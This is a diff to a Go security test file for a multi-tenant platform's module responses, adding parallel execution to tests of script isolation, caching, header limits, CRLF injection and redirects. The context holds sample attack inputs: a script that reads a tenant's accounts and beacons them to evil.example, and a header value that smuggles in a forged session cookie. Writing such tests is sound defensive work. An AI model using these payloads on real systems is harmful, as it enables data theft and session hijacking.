@@ -79,6 +79,7 @@ func errorCode(t *testing.T, resp *http.Response) string {
 }
 
 func TestAModuleAnswerRunsNothingOnThePlatformsOrigin(t *testing.T) {
+	t.Parallel()
 	srv := moduleSite(t)
 	script := `<html><script>fetch("/v1/tenants/` + wengyuan + `/accounts").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>`
 	for name, c := range map[string]struct {
@@ -123,6 +124,7 @@ func TestAModuleAnswerRunsNothingOnThePlatformsOrigin(t *testing.T) {
 }
 
 func TestAModuleAnswerIsKeptByNoCache(t *testing.T) {
+	t.Parallel()
 	srv := moduleSite(t)
 	for _, cc := range []string{"public, max-age=31536000", "public", "", "private, max-age=600"} {
 		resp := moduleAnswers(t, srv, wengyuan, 200, map[string]string{"Content-Type": "application/json", "Cache-Control": cc}, `{}`)
@@ -136,6 +138,7 @@ func TestAModuleAnswerIsKeptByNoCache(t *testing.T) {
 // or 304 keeps a module's "public, max-age=N" up to MaxPublicMaxAge;
 // anything else is kept by no cache.
 func TestAPublicAnswerMayBeKeptForAWhile(t *testing.T) {
+	t.Parallel()
 	for _, c := range []struct {
 		method string
 		status int32
@@ -166,6 +169,7 @@ func TestAPublicAnswerMayBeKeptForAWhile(t *testing.T) {
 }
 
 func TestAModuleSetsOnlyTheHeadersItMay(t *testing.T) {
+	t.Parallel()
 	srv := moduleSite(t)
 	resp := moduleAnswers(t, srv, wengyuan, 200, map[string]string{
 		"Content-Type":                     "application/json",
@@ -201,6 +205,7 @@ func TestAModuleSetsOnlyTheHeadersItMay(t *testing.T) {
 }
 
 func TestAModuleAnswerWithALineBreakInAHeaderIsRefused(t *testing.T) {
+	t.Parallel()
 	srv := moduleSite(t)
 	for name, header := range map[string]map[string]string{
 		"CR LF and a cookie":     {"Content-Disposition": "attachment\r\nSet-Cookie: session=stolen"},
@@ -225,6 +230,7 @@ func TestAModuleAnswerWithALineBreakInAHeaderIsRefused(t *testing.T) {
 }
 
 func TestAModuleRedirectsOnlyWithinItsOwnRoutes(t *testing.T) {
+	t.Parallel()
 	srv := moduleSite(t)
 	own := "/v1/tenants/" + wengyuan + "/modules/notes/"
 	for _, loc := range []string{
